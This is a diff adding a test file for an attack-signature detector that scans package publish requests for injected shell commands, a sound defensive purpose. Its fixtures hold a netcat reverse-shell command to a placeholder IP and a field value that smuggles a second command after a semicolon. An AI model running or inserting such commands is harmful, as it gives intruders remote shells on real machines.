@@ -1,0 +1,31 @@
+import { expect, test } from 'vitest';
+import { findSignatures } from '../../../src/attacks/find-signatures.ts';
+
+const SHELL = 'nc -e /bin/sh 203.0.113.9 4444';
+
+function found(document: object): readonly string[] {
+  const request = { method: 'PUT', path: '/@acme%2fapi', query: '', headers: {}, contentType: 'application/json' };
+  return findSignatures({ ...request, body: JSON.stringify(document) }).matches.map(({ location }) => location);
+}
+
+function published(script: string): object {
+  return { name: 'api', versions: { '1.2.0': { scripts: { build: 'tsc', 'test:all': script } } }, readme: 'An API' };
+}
+
+test('scripts of a package that is published are commands', () => {
+  expect(found(published('./test/python.sh && ./test/ruby.sh'))).toEqual([]);
+  expect(found(published('PLATFORM=linux/$(uname -m) docker compose up -d'))).toEqual([]);
+  expect(found(published('prettier . || echo "Not formatted. Going on"'))).toEqual([]);
+});
+
+test('what an intruder runs counts there, and so does every command in other fields', () => {
+  expect(found(published(`;${SHELL}`))).toEqual(['body.versions.1.2.0.scripts.test:all']);
+  expect(found({ ...published('tsc'), host: '127.0.0.1;cat /tmp/a' })).toEqual(['body.host']);
+});
+
+test('a command in another field of the same name is judged as ever', () => {
+  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`name${i}`, `value ${i}`]));
+  const script = 'x;./test/ruby.sh';
+  const versions = { '1.2.0': { scripts: { test: script } } };
+  expect(found({ versions, ...many, host: { test: script } })).toEqual(['body.host.test']);
+});
